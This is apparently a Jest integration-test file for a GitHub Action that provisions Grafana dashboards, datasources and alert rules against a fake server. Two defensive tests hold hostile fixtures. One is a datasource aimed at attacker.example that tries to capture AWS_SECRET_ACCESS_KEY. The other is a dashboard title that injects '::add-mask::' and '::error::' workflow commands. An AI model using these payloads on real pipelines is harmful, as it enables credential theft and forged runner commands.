/**
 * The action through the real skeleton (runMain with a recording runner) and its real clients, against the fake
 * Grafana on every version profile: apply twice (the second run all unchanged, with zero write requests), a dry run
 * failing on drift, a UI edit detected and left alone, dashboards saved in their folder with the commit and run URL,
 * the bootstrap token and the deploy annotation handed to the post step, and no secret in the log.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { runMain, runPost } from '@aws-delivery/action-kit';
import { recordingRunner, type RecordingRunner } from '@aws-delivery/action-kit/recording';
import { startFakeGrafana, type FakeGrafana, type GrafanaVersion } from '@aws-delivery/testing';
import { grafanaProvision } from '../src/action.js';
import { cleanup } from '../src/cleanup.js';
import { BOOTSTRAP_INPUTS, SECRET_INPUT, useActionOnFake } from './action-on-fake.js';
import { RESOURCES, SECRETS } from './resources.js';
import { workspace, type Workspace } from './workspace.js';

const GITHUB_ENV = {
  GITHUB_SHA: '0123456789abcdef0123456789abcdef01234567',
  GITHUB_SERVER_URL: 'https://github.example.com',
  GITHUB_REPOSITORY: 'fintech/payments',
  GITHUB_RUN_ID: '4242',
};

/** Every log line, and every output, must be free of these. */
function expectNoSecretPrinted(io: RecordingRunner, secrets: readonly string[]): void {
  const printed = [...io.recorded.log.map((l) => l.message), ...io.recorded.summary].join('\n');
  for (const secret of secrets) {
    expect(printed).not.toContain(secret);
    expect(io.recorded.masks).toContain(secret);
  }
}

describe.each(['9.5', '10.4', '11.6', '12.x'] as GrafanaVersion[])(
  'grafana-provision against the fake Grafana %s',
  (version) => {
    const g = useActionOnFake(version, { env: GITHUB_ENV });

    it('first run: says which version and dialect it found, creates everything in order, outputs counts and URLs', async () => {
      const { io, outcome } = await g.step();
      expect(io.lines('error')).toEqual([]);
      expect(outcome?.ok).toBe(true);
      const dialect = version === '12.x' ? '/apis dialect' : '/api dialect';
      expect(io.lines('info').find((l) => l.startsWith('Grafana '))).toContain(dialect);
      const folders = version === '11.6' || version === '12.x' ? 3 : 2;
      expect(io.recorded.outputs).toMatchObject({
        created: String(folders + 7),
        updated: '0',
        unchanged: '0',
        deleted: '0',
        changed: 'true',
      });
      expect(JSON.parse(io.recorded.outputs['dashboard-urls'] ?? '{}')).toMatchObject({
        'pay-api': `${g.fake.url}/d/pay-api`,
        home: `${g.fake.url}/d/home`,
      });
      const dashboard = g.fake.store.dashboards.get('pay-api');
      const prod = [...g.fake.store.folders.values()].find((f) => f.uid === dashboard?.folderUid);
      expect(prod?.title).toMatch(/Prod$/);
      if (version !== '12.x')
        expect(dashboard?.versions.at(-1)?.message).toBe(
          'grafana-provision commit 0123456789abcdef0123456789abcdef01234567 https://github.example.com/fintech/payments/actions/runs/4242',
        );
      expect(g.fake.store.datasources.get('prom')?.secureJsonData).toEqual({ basicAuthPassword: 'prom-secret-1' });
      expect(io.recorded.summary.join('\n')).toContain('| dashboard | Payments API | create |');
      expectNoSecretPrinted(io, [g.token, ...Object.values(SECRETS)]);
    });

    it('second run: all unchanged, with zero write requests', async () => {
      const before = g.fake.writeRequests().length;
      const { io, outcome } = await g.step();
      expect(outcome?.ok).toBe(true);
      expect(g.fake.writeRequests().slice(before)).toEqual([]);
      expect(io.recorded.outputs).toMatchObject({ created: '0', updated: '0', deleted: '0', changed: 'false' });
      expect(Number(io.recorded.outputs.unchanged)).toBeGreaterThan(7);
      expect(io.recorded.summary.join('\n')).not.toMatch(/\| (create|update|delete)/);
      expect(io.lines('info')).toContainEqual(expect.stringMatching(/^Applied 0 change\(s\)/));
    });

    it('a dry run passes when nothing differs, and fails on drift without writing', async () => {
      expect((await g.step({ 'dry-run': 'true' })).outcome?.ok).toBe(true);
      g.ws.write(
        RESOURCES.map((f) =>
          f.path.endsWith('overview.json')
            ? { ...f, text: f.text.replace('Platform overview', 'Platform at a glance') }
            : f,
        ),
      );
      const before = g.fake.writeRequests().length;
      const { io, outcome } = await g.step({ 'dry-run': 'true' });
      expect(outcome?.ok).toBe(false);
      expect(io.lines('error')).toEqual([
        expect.stringMatching(/^grafana-provision: Drift: Grafana differs from grafana \(0 to create, 1 to update/),
      ]);
      expect(io.recorded.outputs.changed).toBe('true');
      expect(g.fake.writeRequests().length).toBe(before);
      g.ws.write(RESOURCES);
    });

    it('a dashboard edited in the UI is reported and left alone; overwrite-ui-edits replaces it', async () => {
      g.fake.ui.editDashboard('pay-db', (model) => void (model.description = 'tuned by hand'));
      const { io, outcome } = await g.step();
      expect(outcome?.ok).toBe(true);
      expect(io.lines('warning')).toContainEqual(expect.stringMatching(/dashboard "Payments DB" was edited in the UI/));
      expect(io.recorded.outputs.changed).toBe('false');
      expect(g.fake.store.dashboards.get('pay-db')?.json.description).toBe('tuned by hand');
      expect((await g.step({ 'dry-run': 'true' })).outcome?.ok).toBe(false);
      const forced = await g.step({ 'overwrite-ui-edits': 'true' });
      expect(forced.io.recorded.outputs).toMatchObject({ updated: '1', changed: 'true' });
      expect(g.fake.store.dashboards.get('pay-db')?.json.description).toBeUndefined();
      expect((await g.step({ 'dry-run': 'true' })).outcome?.ok).toBe(true);
    });

    it('text from the server (a title edited in the UI) never becomes a line the runner could read as a command', async () => {
      g.fake.ui.editDashboard('home', (model) => void (model.title = 'Home\n::add-mask::x\r\n::error::forged'));
      const { io } = await g.step();
      const lines = [...io.recorded.log.map((l) => l.message), ...io.recorded.summary].flatMap((m) => m.split(/\r?\n/));
      expect(lines.filter((l) => l.trimStart().startsWith('::'))).toEqual([]);
      // The edit is shown (as a value in the field-level diff), only never at the start of a line.
      expect(io.lines('info')).toContainEqual(
        expect.stringMatching(/^ {2}update .*title: .*::add-mask::x.*::error::forged/),
      );
      await g.step({ 'overwrite-ui-edits': 'true' });
      expect(g.fake.store.dashboards.get('home')?.json.title).toBe('Home');
    });

    it("a secure field never takes a value from the environment (the job's own credentials)", async () => {
      const dir = workspace([
        {
          path: 'datasources/exfiltrate.yaml',
          text: 'name: Out\ntype: prometheus\nuid: out\nurl: http://attacker.example\nsecureJsonData:\n  basicAuthPassword: ${AWS_SECRET_ACCESS_KEY}\n',
        },
      ]);
      const io = recordingRunner({
        inputs: { 'grafana-url': g.fake.url, token: g.token },
        env: { GITHUB_WORKSPACE: dir.dir, AWS_SECRET_ACCESS_KEY: 'job-credential-secret' },
      });
      const outcome = await runMain(grafanaProvision, { io });
      dir.remove();
      expect(outcome?.ok).toBe(false);
      expect(io.lines('error')).toEqual([expect.stringContaining('the secret AWS_SECRET_ACCESS_KEY is not set')]);
      expect(g.fake.store.datasources.get('out')).toBeUndefined();
    });

    it('basic auth with create-token: a masked token output for later steps, deleted by the post step; the deploy annotation closed by it', async () => {
      const inputs = {
        ...BOOTSTRAP_INPUTS,
        annotate: 'true',
        'annotation-tags': 'service:payments,env:prod',
      };
      const { io, outcome } = await g.step(inputs);
      expect(io.lines('error')).toEqual([]);
      expect(outcome?.ok).toBe(true);
      const created = io.recorded.outputs.token ?? '';
      expect(created).toMatch(/^glsa_/);
      expectNoSecretPrinted(io, [created, 'bootstrap-pass']);
      const annotationId = Number(io.recorded.outputs['annotation-id']);
      const annotation = g.fake.store.annotations.get(annotationId);
      expect(annotation?.tags).toEqual(
        expect.arrayContaining(['service:payments', 'env:prod', 'grafana-provision', 'commit:0123456789ab']),
      );
      expect(annotation?.timeEnd).toBe(annotation?.time);
      const tokensBefore = g.fake.store.tokens.size;
      const state = Object.fromEntries(
        Object.entries(io.recorded.state).map(([k, v]) => [k, JSON.parse(v) as unknown]),
      );
      expect(JSON.stringify(state)).not.toContain(created);
      await new Promise((resolve) => setTimeout(resolve, 5));
      const post = recordingRunner({ inputs: { 'grafana-url': g.fake.url, ...inputs }, env: { ...GITHUB_ENV }, state });
      expect(await runPost('grafana-provision', cleanup, { io: post })).toEqual({ ok: true, result: undefined });
      expect(g.fake.store.tokens.size).toBe(tokensBefore - 1);
      expect(g.fake.store.annotations.get(annotationId)?.timeEnd).toBeGreaterThan(annotation?.time ?? 0);
      expectNoSecretPrinted(post, ['bootstrap-pass']);
    });

    it('prune: deletes only what it owns, keeps a folder holding an unmanaged dashboard, then removes it once empty', async () => {
      const prodUid = g.fake.store.dashboards.get('pay-api')?.folderUid ?? '';
      g.fake.ui.saveDashboard({ uid: 'hand-made', title: 'Hand made' }, { folderUid: prodUid });
      const gone = [
        'dashboards/Platform/Payments/Prod/api.json',
        'dashboards/Platform/Payments/Prod/db.json',
        'alert-rules/Platform/Payments/Prod/availability.yaml',
      ];
      g.ws.write(RESOURCES.filter((f) => !gone.includes(f.path)));
      const readsBefore = g.fake.requests.length;
      const kept = await g.step();
      expect(kept.io.recorded.outputs.deleted).toBe('0');
      // An unmanaged dashboard is known from search alone: its model is never read.
      const reads = g.fake.requests.slice(readsBefore).filter((r) => r.path.startsWith('/api/dashboards/uid/'));
      expect(reads.map((r) => r.path)).not.toContain('/api/dashboards/uid/hand-made');
      if (version !== '12.x') expect(reads.map((r) => r.path)).toContain('/api/dashboards/uid/pay-api');
      expect(kept.io.lines('warning')).toContainEqual(expect.stringMatching(/enable prune to delete them/));
      const pruned = await g.step({ prune: 'true' });
      expect(pruned.io.lines('error')).toEqual([]);
      expect(pruned.io.recorded.outputs.deleted).toBe('3');
      expect(pruned.io.recorded.summary.join('\n')).toMatch(/\| folder \| [^|]*Prod \| delete \(blocked\) \|/);
      expect(g.fake.store.dashboards.has('pay-api')).toBe(false);
      expect(g.fake.store.dashboards.has('hand-made')).toBe(true);
      expect(g.fake.store.folders.has(prodUid)).toBe(true);
      g.fake.ui.deleteDashboard('hand-made');
      await g.step({ prune: 'true' });
      expect(g.fake.store.folders.has(prodUid)).toBe(false);
      expect((await g.step({ prune: 'true', 'dry-run': 'true' })).outcome?.ok).toBe(true);
      g.ws.write(RESOURCES);
    });
  },
);

describe('disable-provenance (https://grafana.com/docs/grafana/latest/developers/http_api/alerting_provisioning/)', () => {
  it.each([
    ['false', 'api', false],
    ['true', '', true],
  ] as const)(
    'disable-provenance: %s writes rules with provenance "%s" (header sent: %s)',
    async (flag, provenance, header) => {
      const fake = await startFakeGrafana({ version: '11.6' });
      const ws = workspace(RESOURCES);
      try {
        const io = recordingRunner({
          inputs: {
            'grafana-url': fake.url,
            token: fake.createServiceAccountToken().key,
            secrets: SECRET_INPUT,
            'disable-provenance': flag,
          },
          env: { GITHUB_WORKSPACE: ws.dir },
        });
        expect((await runMain(grafanaProvision, { io }))?.ok).toBe(true);
        expect(fake.store.alertRules.get('pay-api-down')?.provenance).toBe(provenance);
        const writes = fake
          .writeRequests()
          .filter((r) => r.path.includes('/rule-groups/') || r.path.includes('/contact-points'));
        expect(writes.map((r) => r.disableProvenance)).toEqual([header, header]);
      } finally {
        await fake.stop();
        ws.remove();
      }
    },
  );
});

// https://grafana.com/docs/grafana/latest/developers/http_api/annotations/ (create; PATCH timeEnd).
describe('a deploy annotation started in one step and ended by a later one (annotation-end: later)', () => {
  const g = useActionOnFake('9.5');

  it('the first step leaves it open (nothing for its post step), the later step sets its end', async () => {
    const first = await g.step({ annotate: 'true', 'annotation-end': 'later' });
    expect(first.outcome?.ok).toBe(true);
    const id = Number(first.io.recorded.outputs['annotation-id']);
    expect(first.io.recorded.state).toEqual({});
    expect(first.io.lines('info')).toContainEqual(
      `Deploy annotation ${id} started and left open: a later step ends it (end-annotation-id: ${id}).`,
    );
    const started = g.fake.store.annotations.get(id);
    expect(started?.timeEnd).toBe(started?.time);
    await new Promise((resolve) => setTimeout(resolve, 5));
    const later = await g.step({ 'end-annotation-id': String(id) });
    expect(later.io.lines('error')).toEqual([]);
    expect(g.fake.store.annotations.get(id)?.timeEnd).toBeGreaterThan(started?.time ?? Infinity);
    expect(g.fake.store.annotations.size).toBe(1);
  });

  it('an id that names no annotation fails the step, saying which input to fix', async () => {
    const { io, outcome } = await g.step({ 'end-annotation-id': '999999' });
    expect(outcome?.ok).toBe(false);
    expect(io.lines('error')).toEqual([
      expect.stringMatching(
        /^grafana-provision: Could not end deploy annotation 999999 \(end-annotation-id\): Grafana answered 404 .*Hint: end-annotation-id must be the annotation-id output/,
      ),
    ]);
  });
});

// Search hits carry title, folder and tags but no version
// (https://grafana.com/docs/grafana/latest/developers/http_api/folder_dashboard_search/).
describe('verify-unchanged: false on the /api dialect (11.6): the tags stand for unchanged dashboards', () => {
  const g = useActionOnFake('11.6', { inputs: { 'verify-unchanged': 'false' } });
  const modelReads = (from: number) =>
    g.fake.requests.slice(from).filter((r) => r.method === 'GET' && r.path.startsWith('/api/dashboards/uid/'));
  beforeAll(async () => {
    expect((await g.step()).outcome?.ok).toBe(true);
  });

  it('an unchanged run reads no dashboard model and writes nothing', async () => {
    const before = g.fake.requests.length;
    const { io, outcome } = await g.step();
    expect(outcome?.ok).toBe(true);
    expect(io.recorded.outputs.changed).toBe('false');
    expect(modelReads(before)).toEqual([]);
    expect(g.fake.requests.slice(before).filter((r) => r.method !== 'GET')).toEqual([]);
  });

  it('the trade-off: a UI edit that keeps title and tags is not seen while the repository leaves the dashboard alone', async () => {
    g.fake.ui.editDashboard('pay-db', (model) => void (model.description = 'tuned by hand'));
    const { io, outcome } = await g.step({ 'dry-run': 'true' });
    expect(outcome?.ok).toBe(true);
    expect(io.lines('warning')).toEqual([]);
    // With the default (verify-unchanged: true) the model is read and the edit is drift.
    expect((await g.step({ 'dry-run': 'true', 'verify-unchanged': 'true' })).outcome?.ok).toBe(false);
  });

  it('once the repository changes that dashboard, its model is read: the UI edit is reported and left alone', async () => {
    g.ws.write(
      RESOURCES.map((f) =>
        f.path.endsWith('Prod/db.json') ? { ...f, text: f.text.replace('"Payments DB"', '"Payments database"') } : f,
      ),
    );
    const before = g.fake.requests.length;
    const { io, outcome } = await g.step();
    expect(outcome?.ok).toBe(true);
    expect(modelReads(before).map((r) => r.path)).toEqual(['/api/dashboards/uid/pay-db']);
    expect(io.lines('warning')).toContainEqual(expect.stringMatching(/"Payments database" was edited in the UI/));
    expect(g.fake.store.dashboards.get('pay-db')?.json.description).toBe('tuned by hand');
    g.ws.write(RESOURCES);
  });

  it('a UI edit the hit shows (the title) is read and reported without a repository change', async () => {
    g.fake.ui.editDashboard('home', (model) => void (model.title = 'Home (edited)'));
    const before = g.fake.requests.length;
    const { io } = await g.step({ 'dry-run': 'true' });
    expect(modelReads(before).map((r) => r.path)).toEqual(['/api/dashboards/uid/home']);
    expect(io.lines('warning')).toContainEqual(expect.stringMatching(/dashboard "Home" was edited in the UI/));
  });
});

describe('failures while applying (https://grafana.com/docs/grafana/latest/developers/http_api/dashboard/)', () => {
  const g = useActionOnFake('10.4', { debug: true });

  it('a 503 and a dropped connection are retried and the run succeeds', async () => {
    g.fake.injectFault({ method: 'POST', path: '/api/dashboards/db', status: 503 });
    g.fake.injectFault({ method: 'GET', path: '/api/datasources', status: 0, drop: true });
    const { io, outcome } = await g.step();
    expect(io.lines('error')).toEqual([]);
    expect(outcome?.ok).toBe(true);
    expect(io.lines('debug').filter((l) => /retrying in \d+ ms/.test(l))).toHaveLength(2);
    expect(g.fake.store.dashboards.size).toBe(4);
  });

  // https://grafana.com/docs/grafana/latest/developers/http_api/annotations/#create-annotation: each POST makes one.
  it('the deploy annotation is created at most once: a lost answer or a 5xx is not retried, a 429 is', async () => {
    const annotationPosts = () => g.fake.requests.filter((r) => r.method === 'POST' && r.path === '/api/annotations');
    const before = g.fake.store.annotations.size;
    g.fake.injectFault({ method: 'POST', path: '/api/annotations', status: 0, loseAnswer: true });
    const lost = await g.step({ annotate: 'true' });
    expect(lost.outcome?.ok).toBe(false);
    expect(lost.io.lines('error')).toEqual([
      expect.stringMatching(
        /^grafana-provision: POST \/api\/annotations to Grafana got no answer \(.*\)\. Hint: It was not sent again: Grafana may have carried it out/,
      ),
    ]);
    expect(annotationPosts()).toHaveLength(1);
    expect(g.fake.store.annotations.size).toBe(before + 1);

    g.fake.injectFault({ method: 'POST', path: '/api/annotations', status: 502 });
    const failed = await g.step({ annotate: 'true' });
    expect(failed.io.lines('error')).toEqual([
      expect.stringMatching(/answered 502 to POST \/api\/annotations.*Hint: It was not sent again/),
    ]);
    expect(annotationPosts()).toHaveLength(2);

    g.fake.injectFault({ method: 'POST', path: '/api/annotations', status: 429 });
    const throttled = await g.step({ annotate: 'true' });
    expect(throttled.io.lines('error')).toEqual([]);
    expect(annotationPosts()).toHaveLength(4);
    expect(g.fake.store.annotations.size).toBe(before + 2);
  });

  it('a 412 version-mismatch while saving says the dashboard was edited during the step; a 403 is not retried', async () => {
    g.ws.write(
      RESOURCES.map((f) =>
        f.path.endsWith('home.json') ? { ...f, text: f.text.replace('"Home"', '"Home page"') } : f,
      ),
    );
    g.fake.injectFault({
      method: 'POST',
      path: '/api/dashboards/db',
      status: 412,
      body: { status: 'version-mismatch', message: 'The dashboard has been changed by someone else' },
    });
    const stale = await g.step();
    expect(stale.outcome?.ok).toBe(false);
    expect(stale.io.lines('error')).toEqual([
      'grafana-provision: Could not update dashboard "Home page": it was changed on the server after it was read ' +
        '(Grafana answered 412 to POST /api/dashboards/db: The dashboard has been changed by someone else.) Hint: ' +
        'Someone edited it in the UI while this step ran. Run the step again to see the edit in the plan.',
    ]);
    const before = g.fake.requests.length;
    g.fake.injectFault({
      method: 'POST',
      path: '/api/dashboards/db',
      status: 403,
      body: { message: 'Permission denied' },
    });
    const denied = await g.step();
    expect(denied.io.lines('error')).toEqual([
      expect.stringMatching(/answered 403 .*Hint: The service account lacks a permission/),
    ]);
    expect(g.fake.requests.slice(before).filter((r) => r.path === '/api/dashboards/db')).toHaveLength(1);
    g.ws.write(RESOURCES);
  });
});

// https://grafana.com/docs/grafana/latest/developers/http_api/serviceaccount/ (create token, secondsToLive).
describe('keep-token: the token made with basic auth outlives the job', () => {
  const g = useActionOnFake('11.6');

  it('is a masked output the post step leaves in Grafana, expiring after token-seconds-to-live', async () => {
    const inputs = {
      ...BOOTSTRAP_INPUTS,
      'keep-token': 'true',
      'token-seconds-to-live': '600',
    };
    const { io, outcome } = await g.step(inputs);
    expect(outcome?.ok).toBe(true);
    const created = io.recorded.outputs.token ?? '';
    expectNoSecretPrinted(io, [created, 'bootstrap-pass']);
    const kept = [...g.fake.store.tokens.values()].find((t) => t.name.startsWith('grafana-provision'));
    const lifetime = (kept?.expires ?? 0) - Date.parse(kept?.created ?? '');
    expect(lifetime).toBeGreaterThan(599_000);
    expect(lifetime).toBeLessThan(601_000);
    const state = Object.fromEntries(Object.entries(io.recorded.state).map(([k, v]) => [k, JSON.parse(v) as unknown]));
    const post = recordingRunner({ inputs: { 'grafana-url': g.fake.url, ...inputs }, state });
    expect(await runPost('grafana-provision', cleanup, { io: post })).toEqual({ ok: true, result: undefined });
    expect(post.lines('info')).toContainEqual(`post: keeping token ${kept?.id} (keep-token is set).`);
    expect(g.fake.store.tokens.has(kept?.id ?? -1)).toBe(true);
    const later = await g.step({ token: created });
    expect(later.outcome?.ok).toBe(true);
  });
});

describe('ca-bundle: a Grafana served with a certificate from a private CA', () => {
  let fake: FakeGrafana;
  let ws: Workspace;
  beforeAll(async () => {
    fake = await startFakeGrafana({ version: '11.6', tls: true });
    ws = workspace(RESOURCES);
  });
  afterAll(async () => {
    await fake.stop();
    ws.remove();
  });
  const step = async (inputs: Record<string, string>) => {
    const io = recordingRunner({
      inputs: {
        'grafana-url': fake.url,
        token: fake.createServiceAccountToken().key,
        secrets: SECRET_INPUT,
        ...inputs,
      },
      env: { GITHUB_WORKSPACE: ws.dir },
    });
    return { io, outcome: await runMain(grafanaProvision, { io }) };
  };

  it('is trusted with that CA in ca-bundle, and refused without it', async () => {
    const refused = await step({ 'max-attempts': '1' });
    expect(refused.outcome?.ok).toBe(false);
    expect(refused.io.lines('error')).toEqual([expect.stringMatching(/certificate/i)]);
    expect(fake.requests).toEqual([]);
    const trusted = await step({ 'ca-bundle': fake.caCertPath ?? '' });
    expect(trusted.io.lines('error')).toEqual([]);
    expect(trusted.outcome?.ok).toBe(true);
    expect(fake.store.dashboards.size).toBe(4);
  });
});
